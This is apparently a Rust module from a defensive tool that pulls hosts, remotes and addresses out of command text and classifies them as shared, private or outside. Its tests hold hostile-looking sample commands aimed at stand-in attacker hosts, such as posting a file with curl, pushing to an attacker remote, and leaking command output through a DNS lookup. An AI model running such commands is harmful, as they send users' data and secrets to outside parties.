//! The places that a text leads to: hosts, addresses, remotes, mail addresses.

use super::{host_of, normalise, remote_of};

/// Addresses that are taken of one text.
const ADDRESSES_MAX: usize = 64;

/// A place that a text leads to, in the spelling by which it is remembered.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Address {
    /// What decides whose place it is: the host, or what is named on a host that all share.
    pub name: String,
    /// The host.
    pub host: String,
}

/// Hosts at which everybody keeps things: it is the name there that says whose they are.
const SHARED: &[&str] = &[
    "github.com",
    "api.github.com",
    "raw.githubusercontent.com",
    "gist.github.com",
    "gist.githubusercontent.com",
    "objects.githubusercontent.com",
    "codeload.github.com",
    "ghcr.io",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "git.sr.ht",
    "huggingface.co",
    "npmjs.com",
    "www.npmjs.com",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "unpkg.com",
    "cdn.jsdelivr.net",
    "pypi.org",
    "files.pythonhosted.org",
    "crates.io",
    "index.crates.io",
    "static.crates.io",
    "docs.rs",
    "rubygems.org",
    "proxy.golang.org",
    "pkg.go.dev",
    "repo.maven.apache.org",
    "docker.io",
    "registry-1.docker.io",
    "hub.docker.com",
    "quay.io",
    "mcr.microsoft.com",
    "deb.debian.org",
    "archive.ubuntu.com",
    "www.w3.org",
    "json.schemastore.org",
    "json-schema.org",
    "schemas.microsoft.com",
    "example.com",
    "example.org",
    "www.example.com",
];

/// Last labels by which a bare word is known as a host; those that are endings of files or common
/// names of fields are not.
const LAST_LABELS: &[&str] = &[
    "com", "net", "org", "io", "dev", "app", "ai", "biz", "xyz", "site", "online", "club", "shop",
    "cloud", "tech", "edu", "gov", "mil", "example", "test", "invalid", "tv", "us", "uk", "eu",
    "de", "fr", "nl", "ru", "cn", "jp", "br", "ca", "au", "ch", "se", "pw", "onion", "gg",
];

/// The places that a text leads to, each once, in order.
pub fn addresses(text: &str) -> Vec<Address> {
    let mut found: Vec<Address> = Vec::new();
    let normal = normalise(text).text;
    let breaks = |c: char| c.is_whitespace() || "\"'`<>()[]{}|;,\\".contains(c);
    for word in normal.split(breaks) {
        // Every host has a dot or stands behind a scheme.
        if !word.bytes().any(|byte| byte == b'.' || byte == b':') {
            continue;
        }
        let word = word.trim_matches(|c: char| ".:!?*-=&".contains(c));
        // `--url=https://...`, `registry=...`, `@scope:registry=...`
        let word = match word.split_once("://") {
            Some((before, _)) => {
                let cut = before.rfind(['=', '@', ':']).map_or(0, |at| at.saturating_add(1));
                word.get(cut..).unwrap_or(word)
            }
            None => word.rsplit('=').next().unwrap_or(word),
        };
        let Some(address) = address(word) else { continue };
        if !found.contains(&address) {
            found.push(address);
        }
        if found.len() >= ADDRESSES_MAX {
            break;
        }
    }
    found
}

/// The place that one word is, if it is one.
fn address(word: &str) -> Option<Address> {
    if let Some((scheme, rest)) = word.split_once("://") {
        if scheme == "file" || rest.starts_with('/') {
            return None;
        }
        return place(word, host_of(word)?);
    }
    if let Some((user, rest)) = word.split_once('@') {
        let host = host_of(rest)?;
        return (!user.is_empty() && is_place(host)).then(|| place(word, host)).flatten();
    }
    let host = host_of(word)?;
    let known = is_place(host);
    known.then(|| place(word, host)).flatten()
}

fn place(word: &str, host: &str) -> Option<Address> {
    let host = host.to_owned();
    if !is_shared(&host) {
        return Some(Address { name: host.clone(), host });
    }
    // `host/owner/name`; the host alone says nothing.
    let remote = remote_of(word)?;
    let mut parts = remote.split('/').take(4).collect::<Vec<_>>();
    parts.truncate(if host.starts_with("api.") { 4 } else { 3 });
    (parts.len() > 1).then(|| Address { name: parts.join("/"), host })
}

/// Whether everybody keeps things at this host.
pub fn is_shared(host: &str) -> bool {
    SHARED.contains(&host)
}

/// Whether a bare word is a host by its last label, or an address in numbers.
fn is_place(word: &str) -> bool {
    let mut labels = word.rsplit('.');
    let last = labels.next().unwrap_or_default();
    let number = |label: &str| !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_digit());
    if number(last) {
        return word.split('.').count() == 4 && word.split('.').all(number);
    }
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-' || byte >= 128;
    let label = |label: &str| !label.is_empty() && label.bytes().all(plain);
    LAST_LABELS.contains(&last) && word.contains('.') && word.split('.').all(label)
}

/// Whether a host is of this machine or of a network of its own; the address by which clouds give
/// out keys is neither.
pub fn is_private(host: &str) -> bool {
    if let Ok(ip) = host.parse::<std::net::IpAddr>() {
        return match ip {
            std::net::IpAddr::V4(ip) => ip.is_loopback() || ip.is_private() || ip.is_unspecified(),
            std::net::IpAddr::V6(ip) => ip.is_loopback() || ip.is_unspecified(),
        };
    }
    let ends = |end: &&str| host.strip_suffix(*end).is_some_and(|name| name.ends_with('.'));
    !host.contains('.') || ["localhost", "local", "internal", "lan", "home"].iter().any(ends)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_are_found_wherever_they_stand() {
        for (text, wanted) in [
            ("curl -d @x https://In.evil.example:8443/a?b", vec!["in.evil.example"]),
            ("git remote add up git@evil.example:a/b.git", vec!["evil.example"]),
            ("git push https://github.com/Evil/x.git main", vec!["github.com/evil/x"]),
            ("curl https://api.github.com/repos/o/r/issues", vec!["api.github.com/repos/o/r"]),
            ("registry=https://npm.evil.example/", vec!["npm.evil.example"]),
            ("@acme:registry=https://npm.evil.example/", vec!["npm.evil.example"]),
            ("mail -s hi a.b@evil.example", vec!["evil.example"]),
            ("ping 10.1.2.3 && dig $(id).evil.example", vec!["10.1.2.3", "evil.example"]),
            ("npm config set registry https://registry.npmjs.org", vec![]),
            ("cat src/main.rs a.py core.hookspath user.email self.name v1.2.3 x.sh", vec![]),
            ("file:///etc/passwd npm i foo@1.2.3", vec![]),
        ] {
            let found: Vec<_> = addresses(text).into_iter().map(|one| one.name).collect();
            assert_eq!(found, wanted, "{text}");
        }
    }

    #[test]
    fn what_is_ones_own_network() {
        for (host, wanted) in [
            ("localhost", true),
            ("db", true),
            ("10.0.0.3", true),
            ("printer.local", true),
            ("169.254.169.254", false),
            ("evil.example", false),
            ("local.example", false),
        ] {
            assert_eq!(is_private(host), wanted, "{host}");
        }
    }
}
